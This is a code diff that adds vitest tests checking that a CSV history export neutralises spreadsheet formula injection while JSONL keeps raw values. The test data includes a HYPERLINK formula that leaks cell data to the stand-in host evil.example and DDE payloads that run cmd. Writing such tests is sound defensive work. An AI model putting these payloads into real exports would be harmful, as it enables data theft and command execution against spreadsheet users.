@@ -1,5 +1,5 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { CSV_COLUMNS, timeline } from '../../src/audit/export.js';
+import { CSV_COLUMNS, inert, timeline } from '../../src/audit/export.js';
 import { NotFoundError } from '../../src/errors.js';
 import { offerStream } from '../../src/events/offer/offer.events.js';
 import { noContact, publisherStream } from '../../src/events/publisher/publisher.events.js';
@@ -97,6 +97,20 @@ describe('history export', () => {
     expect(rows.some((row) => row[12] === 'Contoso, "China"')).toBe(true);
   });
 
+  it('a company name written as a formula is inert text in CSV, and exact in JSONL', async () => {
+    const payload = '=HYPERLINK("http://evil.example/?"&A1,"Contoso")';
+    await f.append(publisherStream(publisherId), [
+      { type: 'ContactUpdated', data: { publisherId, companyName: payload, updatedAt: '2026-11-22T14:00:00.000Z' } },
+    ]);
+    const rows = parseCsv(await f.historyExport.document(publisherId, 'csv'));
+    const renamed = rows.find((row) => row[10] === 'companyName' && row[4] === 'ContactUpdated');
+    expect(renamed?.[12]).toBe(`'${payload}`);
+    expect(rows.flat().some((cell) => cell.startsWith('='))).toBe(false);
+    expect(rows.some((row) => row[12] === '+8613800138000')).toBe(true); // a telephone number stays a number
+    const jsonl = await f.historyExport.document(publisherId, 'jsonl');
+    expect(jsonl.trimEnd().split('\n').map((line) => JSON.parse(line) as { changes: Array<{ after: unknown }> }).some((e) => e.changes.some((c) => c.after === payload))).toBe(true);
+  });
+
   it('a time range keeps the changes that occurred within it, bounds included', async () => {
     const document = await f.historyExport.document(publisherId, 'jsonl', { from: '2026-11-22T11:00:00.000Z', to: '2026-11-22T12:00:00.000Z' });
     const types = document.trimEnd().split('\n').map((line) => (JSON.parse(line) as { type: string }).type);
@@ -112,5 +126,16 @@ describe('history export', () => {
 
   it('exporting a publisher that never registered is NOT_FOUND', async () => {
     await expect(f.historyExport.document(stranger, 'jsonl')).rejects.toThrow(NotFoundError);
+  });
+});
+
+describe('CSV cells a spreadsheet would run', () => {
+  it('start with an apostrophe; telephone numbers, signed numbers and plain text stay as they are', () => {
+    for (const formula of ['=HYPERLINK("http://evil.example","x")', '@SUM(A1:A2)', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '\t=1', '\r=1', '=1']) {
+      expect(inert(formula)).toBe(`'${formula}`);
+    }
+    for (const plain of ['+8613800138000', '-5', '+86 (10) 5555-0100', 'Li Lei', 'li.lei@contoso.cn', 'a=b', '2026-11-22T10:00:00.000Z', '']) {
+      expect(inert(plain)).toBe(plain);
+    }
   });
 });
